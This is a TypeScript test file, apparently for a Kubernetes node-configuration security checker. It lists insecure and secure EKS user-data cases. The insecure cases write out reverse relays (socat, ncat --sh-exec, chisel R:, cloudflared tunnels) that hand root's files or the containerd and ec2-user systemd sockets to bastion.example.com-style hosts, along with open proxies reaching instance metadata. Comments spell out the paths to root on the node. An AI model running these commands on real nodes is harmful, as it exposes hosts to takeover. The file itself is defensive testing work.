// Red-team round 56 on EKS NODE user data and pod specs (fresh eyes).
// Probed: reverse relays that connect OUT and hand a loopback-only server or a root socket to another host (socat with
// two connecting addresses, ncat --sh-exec in connect mode, chisel client R:, a cloudflared quick tunnel), beside the
// ssh -R form the pack reads; tunnel servers and forward proxies that listen on every address BY DEFAULT with no address
// word (chisel server, pproxy, 3proxy, Dante), which the unread-program rule (unreadListeners) needs a word to catch;
// websocat relaying the runtime's socket; ec2-user's user manager (uid 1000, the EKS AMI's passwordless sudoer) as a
// root-power socket relayed by socat and mounted read-only by a uid-1000 pod.
// Secure neighbours: the same programs on loopback or relaying another host's service.
// Misses (9 insecure, 0 secure): reverse relays of a loopback-only server to another host by socat (two connecting
// addresses), ncat --sh-exec in connect mode, chisel client R: and a cloudflared quick tunnel (ssh -R of the same is
// refused); chisel server, pproxy and 3proxy listening on every address by default (open tunnel/proxy to instance
// metadata: unreadListeners needs an address word, pproxy's `socks5://:1080` is not one); ec2-user's user manager
// (/run/user/1000, a passwordless sudoer's) relayed by socat and mounted read-only by a uid-1000 pod (ROOT_SOCKETS
// names only /run/user/0).
// Refused as they should be: ssh -R of miniserve /, a reverse socat of containerd (the relaying-command rule), danted
// with an unread config, websocat tcp-l:0.0.0.0 relaying containerd.
import { describeNodeCases, devNodeCase, devNodeScript, hostPathDaemonSet, NodeCase, NON_ROOT } from "./nodeBuilders";
import { Resources } from "./support";

/** A server bound to loopback serving / (accepted alone: round 48 "a loopback-bound server keeps what it serves"). */
const LO_ROOT = "nohup miniserve -i 127.0.0.1 --port 8000 / &";

/** A heredoc writing `path` with `lines`. */
const file = (path: string, lines: string[], tag = "CONF") => [`cat > ${path} <<'${tag}'`, ...lines, tag];

/** What a relay to miniserve / from beyond loopback (or to another host) is refused as. */
const RELAY = /served beyond loopback|does not read|forward|shell|another host/;
/** What a relay of a root-power socket is refused as. */
const SOCKET = /containerd|socket|runtime|served beyond loopback|does not read|forward/;
/** What an open proxy or tunnel server on the node's addresses is refused as. */
const PROXY = /proxy|does not read|instance metadata|served beyond loopback|forward|tunnel/;

/** Lines enabling ec2-user's user manager at boot (logind.conf(5)/loginctl(1) enable-linger). */
const LINGER = "loginctl enable-linger ec2-user";

const insecure: NodeCase[] = [
    // --- Reverse relays: the node dials out and hands a loopback-only server to another host ---
    // The pack's own reading: ssh -R listens on the destination, "another host", and its target is resolved here.
    devNodeCase(
        "ssh -N -R 8080:127.0.0.1:8000 ops@bastion.example.com before miniserve / (the bastion reaches root's files)",
        devNodeScript("dev-ssh-reverse-lo-nodes", [
            LO_ROOT,
            "nohup ssh -N -o ExitOnForwardFailure=yes -R 8080:127.0.0.1:8000 ops@bastion.example.com &",
        ]),
        RELAY,
    ),
    devNodeCase(
        "socat TCP:bastion.example.com:4444 UNIX-CONNECT:/run/containerd/containerd.sock (reverse relay of containerd)",
        devNodeScript("dev-socat-reverse-containerd-nodes", [
            "nohup socat TCP:bastion.example.com:4444,forever,interval=5 UNIX-CONNECT:/run/containerd/containerd.sock &",
        ]),
        SOCKET,
    ),
    // Was a MISS (fixed in round 56): socat(1) "DESCRIPTION": socat "establishes two bidirectional byte streams and transfers data between them";
    // with two connecting addresses (TCP:HOST:PORT twice; `forever,interval=` retries the connect, socat(1) "ADDRESS
    // OPTIONS") it joins bastion.example.com:4444 to miniserve on 127.0.0.1:8000: whoever holds the bastion's port reads
    // root's whole file system (the kubelet's credentials, every pod's token). commandForwarders reads a socat only
    // when one address is a listener (SOCAT_LISTENER), though it reads `ssh -R` to another host as this very relay
    // (listens: "bastion.example.com (another host)"). Fix: a socat with no listening address and one address not on
    // loopback is a forwarder listening on that other host (as ssh -R).
    {
        ...devNodeCase(
            "socat TCP:bastion.example.com:4444,forever TCP:127.0.0.1:8000 (reverse relay) before miniserve /",
            devNodeScript("dev-socat-reverse-lo-nodes", [
                LO_ROOT,
                "nohup socat TCP:bastion.example.com:4444,forever,interval=5 TCP:127.0.0.1:8000 &",
            ]),
            RELAY,
        ),
    },
    // Was a MISS (fixed in round 56): Ncat Users' Guide, "Command execution": --sh-exec/-c and --exec/-e work in connect mode too ("ncat
    // --exec ... HOST PORT" hands the connection to the program, the reverse-shell form); here the program is `ncat
    // 127.0.0.1 8000`, so the connection ncat makes to bastion.example.com:4444 is relayed to miniserve /.
    // servedForwarders reads an ncat's served program only when ncat listens. Fix: read ncat -e/-c in connect mode as a
    // forwarder listening on its destination (another host), as ssh -R.
    {
        ...devNodeCase(
            "ncat --sh-exec 'ncat 127.0.0.1 8000' bastion.example.com 4444 (connect mode) before miniserve /",
            devNodeScript("dev-ncat-connect-exec-lo-nodes", [
                LO_ROOT,
                `nohup ncat --sh-exec "ncat 127.0.0.1 8000" bastion.example.com 4444 &`,
            ]),
            RELAY,
        ),
    },
    // Was a MISS (fixed in round 56): chisel README ("Usage", client remotes): `R:<local-interface>:<local-port>:<remote-host>:<remote-port>`
    // "reverse" remotes listen on the chisel SERVER and are dialled from the client: R:8080:127.0.0.1:8000 puts
    // miniserve / on tunnel.example.com:8080. The pack reads ssh -R and gost rtcp:// this way, not chisel; chisel client
    // has no listen word, so unreadListeners sees nothing. Fix: read `chisel client SERVER R:...` as ssh -R.
    {
        ...devNodeCase(
            "chisel client https://tunnel.example.com R:8080:127.0.0.1:8000 before miniserve /",
            devNodeScript("dev-chisel-reverse-lo-nodes", [
                LO_ROOT,
                "nohup chisel client https://tunnel.example.com R:8080:127.0.0.1:8000 &",
            ]),
            RELAY,
        ),
    },
    // Was a MISS (fixed in round 56): Cloudflare docs, "Quick Tunnels" (TryCloudflare): `cloudflared tunnel --url http://localhost:8080` "will
    // generate a random subdomain on trycloudflare.com" proxying to the local URL: miniserve / becomes public on the
    // internet, no access control. No listener on the node, so no rule reads it. Fix: read `cloudflared tunnel --url
    // URL` (and `--unix-socket`) as a forwarder from another host to URL's end.
    {
        ...devNodeCase(
            "cloudflared tunnel --url http://127.0.0.1:8000 (a public trycloudflare.com quick tunnel) before miniserve /",
            devNodeScript("dev-cloudflared-quick-lo-nodes", [
                LO_ROOT,
                "nohup cloudflared tunnel --no-autoupdate --url http://127.0.0.1:8000 &",
            ]),
            RELAY,
        ),
    },
    // --- Tunnel servers and forward proxies on every address by default (no address word) ---
    // Was a MISS (fixed in round 56): chisel README, `chisel server --help`: "--host, Defines the HTTP listening host – the network interface
    // (defaults the environment variable HOST and falls back to 0.0.0.0)"; without --auth/--authfile any client may
    // open forward remotes through it ("<remote-host>:<remote-port>" dialled by the server): a pod running `chisel
    // client http://NODE:8080 9000:169.254.169.254:80` reads the node role from instance metadata (the hop limit does
    // not apply: the server dials), or 127.0.0.1 ports of the node. unreadListeners needs a listen address word.
    // Fix: a chisel server reader (default 0.0.0.0, --host, HOST; an open forward proxy unless --auth/--authfile).
    {
        ...devNodeCase(
            "chisel server --port 8080 (default host 0.0.0.0, no --auth: forward tunnels to instance metadata)",
            devNodeScript("dev-chisel-server-nodes", ["nohup chisel server --port 8080 &"]),
            PROXY,
        ),
    },
    // Was a MISS (fixed in round 56): pproxy README (qwj/python-proxy): "pproxy ... Serving on :8080 by http,socks4,socks5" with no arguments,
    // `-l` "tcp server uri (default: http+socks4+socks5://:8080/)": an unauthenticated HTTP/SOCKS proxy on every
    // address, through which every pod reaches instance metadata and the node's loopback. Its `-l socks5://:1080` has
    // an empty host inside a URI, not a `:PORT` operand (EMPTY_HOST), so unreadListeners does not see it.
    // Fix: a pproxy reader (`-l` URIs, empty host = every address, default :8080; `#user:pass` is auth).
    {
        ...devNodeCase(
            "pproxy -l socks5://:1080 (every address, no auth)",
            devNodeScript("dev-pproxy-socks-nodes", ["nohup pproxy -l socks5://:1080 &"]),
            PROXY,
        ),
    },
    // Was a MISS (fixed in round 56): 3proxy(8)/3proxy.cfg(3): `proxy` and `socks` services listen "-i internal_ip ... (default 0.0.0.0)", and
    // `auth none` admits every client: an open HTTP and SOCKS proxy to instance metadata. The command names only a
    // config file. Fix: read 3proxy.cfg (service lines, -i, auth) or refuse a root 3proxy with an unread config.
    {
        ...devNodeCase(
            "3proxy /etc/3proxy.cfg (auth none; proxy -p3128; socks -p1080: every address)",
            devNodeScript("dev-3proxy-open-nodes", [
                ...file("/etc/3proxy.cfg", ["nserver 10.100.0.10", "auth none", "proxy -p3128", "socks -p1080"]),
                "nohup 3proxy /etc/3proxy.cfg &",
            ]),
            PROXY,
        ),
    },
    devNodeCase(
        "danted -D -f /etc/danted.conf (internal: eth0 port 1080, socksmethod none, pass from 0.0.0.0/0)",
        devNodeScript("dev-danted-open-nodes", [
            ...file("/etc/danted.conf", [
                "logoutput: syslog",
                "internal: eth0 port = 1080",
                "external: eth0",
                "clientmethod: none",
                "socksmethod: none",
                "user.privileged: root",
                "user.unprivileged: nobody",
                "client pass {",
                "  from: 0.0.0.0/0 to: 0.0.0.0/0",
                "}",
                "socks pass {",
                "  from: 0.0.0.0/0 to: 0.0.0.0/0",
                "}",
            ]),
            "nohup danted -D -f /etc/danted.conf &",
        ]),
        PROXY,
    ),
    // --- Root-power sockets ---
    devNodeCase(
        "websocat -E -b tcp-l:0.0.0.0:10000 unix:/run/containerd/containerd.sock",
        devNodeScript("dev-websocat-containerd-nodes", [
            "nohup websocat -E -b tcp-l:0.0.0.0:10000 unix:/run/containerd/containerd.sock &",
        ]),
        SOCKET,
    ),
    // ec2-user (uid 1000) is a passwordless sudoer on the EKS-optimized AL AMIs (cloud-init's default user:
    // /etc/sudoers.d/90-cloud-init-users, ALL=(ALL) NOPASSWD:ALL; podSpec.ts WRITABLE_DATA notes it too). Its user
    // manager, lingering from boot (loginctl(1) enable-linger "a user manager is spawned for the user at boot"),
    // accepts root or uid 1000 on /run/user/1000/systemd/private and the user bus, and StartTransientUnit runs any
    // command as ec2-user, `sudo` included: root on the node.
    // Was a MISS (fixed in round 56): rootPowerSocket names root's user manager (/run/user/0, round 54) but not ec2-user's: systemd(1) "--user"
    // managers serve the same org.freedesktop.systemd1 API on $XDG_RUNTIME_DIR/systemd/private (systemd.unit(5)/
    // systemd-run(1) --user: StartTransientUnit), the relay's root credentials pass the socket's 0600 mode, and the
    // unit may run `sudo -n` as ec2-user (NOPASSWD, cloud-init's default user): every pod reaching port 10000 is root.
    // Fix: count every user's runtime directory (/run/user/*) in ROOT_SOCKETS, or at least a sudoer's (uid 1000).
    {
        ...devNodeCase(
            "loginctl enable-linger ec2-user; socat TCP-LISTEN:10000,fork UNIX-CONNECT:/run/user/1000/systemd/private",
            devNodeScript("dev-socat-ec2-user-private-nodes", [
                LINGER,
                "nohup socat TCP-LISTEN:10000,fork UNIX-CONNECT:/run/user/1000/systemd/private &",
            ]),
            SOCKET,
        ),
    },
    // Was a MISS (fixed in round 56): a uid-1000 pod with ec2-user's runtime directory mounted read-only (a writable one is refused, outside
    // WRITABLE_DATA): connect(2) on a socket needs write permission on the socket inode, which a read-only mount does
    // not remove for sockets (podSpec.ts NODE_SECRETS /run/nri note: "a socket on a read-only mount still accepts
    // connect()"), and ec2-user's user manager trusts its own uid on systemd/private: `systemd-run --user sudo -n ...`
    // from the pod is root on the node (cloud-init default user ec2-user, NOPASSWD:ALL). Fix: as above (ROOT_SOCKETS
    // /run/user, read-only mounts of it refused as /run/user/0's are).
    {
        ...devNodeCase(
            "linger for ec2-user; a DaemonSet in tools running as uid 1000 mounting /run/user/1000 read-only (ec2-user's systemd)",
            (r: Resources) => {
                devNodeScript("dev-linger-ec2-user-nodes", [LINGER])(r);
                hostPathDaemonSet(
                    r,
                    "user-run",
                    "tools",
                    "/run/user/1000",
                    { ...NON_ROOT, runAsUser: 1000, runAsGroup: 1000 },
                    true,
                    "Directory",
                );
            },
            /user|run|socket|hostPath|node/,
        ),
    },
    // Neighbours of the round-56 fixes (dialledOutForwarders; chisel, pproxy and 3proxy readers).
    devNodeCase(
        "socat TCP:bastion.example.com:4444 EXEC:'ncat 127.0.0.1 8000' (a reverse relay through a program) before miniserve /",
        devNodeScript("dev-socat-reverse-exec-lo-nodes", [
            LO_ROOT,
            `nohup socat TCP:bastion.example.com:4444,forever "EXEC:ncat 127.0.0.1 8000" &`,
        ]),
        RELAY,
    ),
    devNodeCase(
        "socat TCP:$RELAY_HOST:4444 TCP:127.0.0.1:8000 (a far end the pack cannot read) before miniserve /",
        devNodeScript("dev-socat-reverse-var-lo-nodes", [
            LO_ROOT,
            `nohup socat "TCP:$RELAY_HOST:4444,forever" TCP:127.0.0.1:8000 &`,
        ]),
        RELAY,
    ),
    devNodeCase(
        "nc -c 'nc localhost 8000' bastion.example.com 4444 (connect mode) before miniserve /",
        devNodeScript("dev-nc-connect-exec-lo-nodes", [
            LO_ROOT,
            `nohup nc -c "nc localhost 8000" bastion.example.com 4444 &`,
        ]),
        RELAY,
    ),
    devNodeCase(
        "chisel client -auth u:p tunnel.example.com:443 R:8000 (remote host defaults to localhost) before miniserve /",
        devNodeScript("dev-chisel-reverse-default-lo-nodes", [
            LO_ROOT,
            "nohup chisel client -auth u:p tunnel.example.com:443 R:8000 &",
        ]),
        RELAY,
    ),
    devNodeCase(
        "chisel client https://tunnel.example.com R:socks (a SOCKS server on the far end) before miniserve /",
        devNodeScript("dev-chisel-reverse-socks-nodes", [
            LO_ROOT,
            "nohup chisel client https://tunnel.example.com R:socks &",
        ]),
        RELAY,
    ),
    devNodeCase(
        "cloudflared tunnel run (config.yml ingress service: http://localhost:8000) before miniserve /",
        devNodeScript("dev-cloudflared-ingress-lo-nodes", [
            LO_ROOT,
            ...file("/etc/cloudflared/config.yml", [
                "tunnel: 6ff42ae2-765d-4adf-8112-31c55c1551ef",
                "credentials-file: /etc/cloudflared/6ff42ae2.json",
                "ingress:",
                "  - hostname: files.example.com",
                "    service: http://localhost:8000",
                "  - service: http_status:404",
            ]),
            "nohup cloudflared tunnel run &",
        ]),
        RELAY,
    ),
    devNodeCase(
        "cloudflared tunnel run --token $TOKEN (routes kept by Cloudflare, unread) before miniserve /",
        devNodeScript("dev-cloudflared-token-lo-nodes", [LO_ROOT, `nohup cloudflared tunnel run --token "$TOKEN" &`]),
        RELAY,
    ),
    devNodeCase(
        "cloudflared tunnel --unix-socket /run/containerd/containerd.sock (containerd on a public hostname)",
        devNodeScript("dev-cloudflared-containerd-nodes", [
            "nohup cloudflared tunnel --unix-socket /run/containerd/containerd.sock &",
        ]),
        SOCKET,
    ),
    devNodeCase(
        "cloudflared --loglevel info --url localhost:8000 (the legacy quick-tunnel form) before miniserve /",
        devNodeScript("dev-cloudflared-legacy-lo-nodes", [
            LO_ROOT,
            "nohup cloudflared --loglevel info --url localhost:8000 &",
        ]),
        RELAY,
    ),
    devNodeCase(
        "ngrok http 8000 before miniserve /",
        devNodeScript("dev-ngrok-lo-nodes", [LO_ROOT, "nohup ngrok http 8000 &"]),
        RELAY,
    ),
    devNodeCase(
        "bore local 8000 --to bore.pub before miniserve /",
        devNodeScript("dev-bore-lo-nodes", [LO_ROOT, "nohup bore local 8000 --to bore.pub &"]),
        RELAY,
    ),
    devNodeCase(
        "chisel server -port 9000 -reverse (Go single-dash flags, every address, no auth)",
        devNodeScript("dev-chisel-server-reverse-nodes", ["nohup chisel server -port 9000 -reverse &"]),
        PROXY,
    ),
    devNodeCase(
        "pproxy (no arguments: http+socks4+socks5://:8080/)",
        devNodeScript("dev-pproxy-default-nodes", ["nohup pproxy &"]),
        PROXY,
    ),
    devNodeCase(
        "python3 -m pproxy -l socks5://:1080 (an empty host in a URI: every address)",
        devNodeScript("dev-pproxy-module-nodes", ["nohup python3 -m pproxy -l socks5://:1080 &"]),
        PROXY,
    ),
    devNodeCase(
        "3proxy /etc/3proxy/3proxy.cfg (a configuration user data does not write)",
        devNodeScript("dev-3proxy-unread-nodes", ["nohup 3proxy /etc/3proxy/3proxy.cfg &"]),
        PROXY,
    ),
    devNodeCase(
        "3proxy with auth strong for proxy, then `auth none` before socks -p1080 (every address)",
        devNodeScript("dev-3proxy-auth-none-socks-nodes", [
            ...file("/etc/3proxy.cfg", [
                "users ops:CL:s3cret",
                "auth strong",
                "proxy -p3128",
                "auth none",
                "socks -p1080",
            ]),
            "nohup 3proxy /etc/3proxy.cfg &",
        ]),
        PROXY,
    ),
    devNodeCase(
        "3proxy tcppm -i0.0.0.0 8080 127.0.0.1 8000 (a port mapper) before miniserve /",
        devNodeScript("dev-3proxy-tcppm-lo-nodes", [
            LO_ROOT,
            ...file("/etc/3proxy.cfg", ["internal 127.0.0.1", "tcppm -i0.0.0.0 8080 127.0.0.1 8000"]),
            "nohup 3proxy /etc/3proxy.cfg &",
        ]),
        RELAY,
    ),
    // Neighbours of the round-56 fix (every user's runtime directory is a root-power place): rootless Podman's API of
    // ec2-user relayed to the network, and /run/user mounted whole by a pod of another uid.
    devNodeCase(
        "socat TCP-LISTEN:8888,fork UNIX-CONNECT:/run/user/1000/podman/podman.sock (ec2-user's rootless Podman API)",
        devNodeScript("dev-socat-rootless-podman-nodes", [
            "nohup socat TCP-LISTEN:8888,fork UNIX-CONNECT:/run/user/1000/podman/podman.sock &",
        ]),
        SOCKET,
    ),
    devNodeCase(
        "a DaemonSet in tools running as uid 2000 mounting /var/run/user read-only",
        (r: Resources) =>
            hostPathDaemonSet(
                r,
                "all-user-run",
                "tools",
                "/var/run/user",
                { ...NON_ROOT, runAsUser: 2000 },
                true,
                "Directory",
            ),
        /user|run|socket|hostPath|node/,
    ),
];

const secure: NodeCase[] = [
    devNodeCase(
        "ssh -N -R 8080:10.0.5.20:8000 ops@bastion.example.com (another host's service, not the node's)",
        devNodeScript("dev-ssh-reverse-remote-nodes", [
            "nohup ssh -N -o ExitOnForwardFailure=yes -R 8080:10.0.5.20:8000 ops@bastion.example.com &",
        ]),
    ),
    devNodeCase(
        "chisel server --host 127.0.0.1 --port 8080 (loopback only)",
        devNodeScript("dev-chisel-server-lo-nodes", ["nohup chisel server --host 127.0.0.1 --port 8080 &"]),
    ),
    devNodeCase(
        "chisel client https://tunnel.example.com 127.0.0.1:5432:db.internal.example.com:5432 (a loopback local forward)",
        devNodeScript("dev-chisel-client-local-nodes", [
            "nohup chisel client https://tunnel.example.com 127.0.0.1:5432:db.internal.example.com:5432 &",
        ]),
    ),
    devNodeCase(
        "pproxy -l http://127.0.0.1:8080 (loopback only)",
        devNodeScript("dev-pproxy-lo-nodes", ["nohup pproxy -l http://127.0.0.1:8080 &"]),
    ),
    devNodeCase(
        "websocat -E -b tcp-l:127.0.0.1:10000 tcp:10.0.5.20:8000 (loopback listener, remote end)",
        devNodeScript("dev-websocat-lo-remote-nodes", [
            "nohup websocat -E -b tcp-l:127.0.0.1:10000 tcp:10.0.5.20:8000 &",
        ]),
    ),
    devNodeCase("loginctl enable-linger ec2-user (alone)", devNodeScript("dev-linger-alone-nodes", [LINGER])),
    // Neighbours of the round-56 fixes.
    devNodeCase(
        "socat TCP:bastion.example.com:4444 TCP:10.0.5.20:8000 beside miniserve / on loopback (another host's service)",
        devNodeScript("dev-socat-reverse-remote-nodes", [
            LO_ROOT,
            "nohup socat TCP:bastion.example.com:4444,forever TCP:10.0.5.20:8000 &",
        ]),
    ),
    devNodeCase(
        "ncat --sh-exec 'ncat 10.0.5.20 8000' bastion.example.com 4444 beside miniserve / on loopback",
        devNodeScript("dev-ncat-connect-exec-remote-nodes", [
            LO_ROOT,
            `nohup ncat --sh-exec "ncat 10.0.5.20 8000" bastion.example.com 4444 &`,
        ]),
    ),
    devNodeCase(
        "chisel client https://tunnel.example.com R:8080:10.0.5.20:8000 beside miniserve / on loopback",
        devNodeScript("dev-chisel-reverse-remote-nodes", [
            LO_ROOT,
            "nohup chisel client https://tunnel.example.com R:8080:10.0.5.20:8000 &",
        ]),
    ),
    devNodeCase(
        "cloudflared tunnel --url http://localhost:3000 (a quick tunnel to an ordinary app)",
        devNodeScript("dev-cloudflared-quick-app-nodes", ["nohup cloudflared tunnel --url http://localhost:3000 &"]),
    ),
    devNodeCase(
        "cloudflared access tcp --hostname ssh.example.com --url localhost:2222 (a client) beside miniserve / on loopback",
        devNodeScript("dev-cloudflared-access-nodes", [
            LO_ROOT,
            "nohup cloudflared access tcp --hostname ssh.example.com --url localhost:2222 &",
        ]),
    ),
    devNodeCase(
        "chisel server --port 8080 --authfile /etc/chisel/users.json (every address, authenticated)",
        devNodeScript("dev-chisel-server-auth-nodes", [
            "nohup chisel server --port 8080 --authfile /etc/chisel/users.json &",
        ]),
    ),
    devNodeCase(
        "pproxy -l socks5://:1080#ops:s3cret (every address, authenticated)",
        devNodeScript("dev-pproxy-auth-nodes", ["nohup pproxy -l 'socks5://:1080#ops:s3cret' &"]),
    ),
    devNodeCase(
        "3proxy /etc/3proxy.cfg (auth strong; proxy -p3128; socks -p1080)",
        devNodeScript("dev-3proxy-strong-nodes", [
            ...file("/etc/3proxy.cfg", [
                "users ops:CL:s3cret",
                "auth strong",
                "allow ops",
                "proxy -p3128",
                "socks -p1080",
            ]),
            "nohup 3proxy /etc/3proxy.cfg &",
        ]),
    ),
    devNodeCase(
        "3proxy /etc/3proxy.cfg (internal 127.0.0.1; auth none; proxy -p3128)",
        devNodeScript("dev-3proxy-lo-nodes", [
            ...file("/etc/3proxy.cfg", ["internal 127.0.0.1", "auth none", "proxy -p3128", "socks -p1080"]),
            "nohup 3proxy /etc/3proxy.cfg &",
        ]),
    ),
    devNodeCase(
        "3proxy tcppm 8080 10.0.5.20 8000 beside miniserve / on loopback (another host's service)",
        devNodeScript("dev-3proxy-tcppm-remote-nodes", [
            LO_ROOT,
            ...file("/etc/3proxy.cfg", ["tcppm 8080 10.0.5.20 8000"]),
            "nohup 3proxy /etc/3proxy.cfg &",
        ]),
    ),
];

describeNodeCases("red team 56: node user data and pod specs (fresh eyes)", insecure, secure);
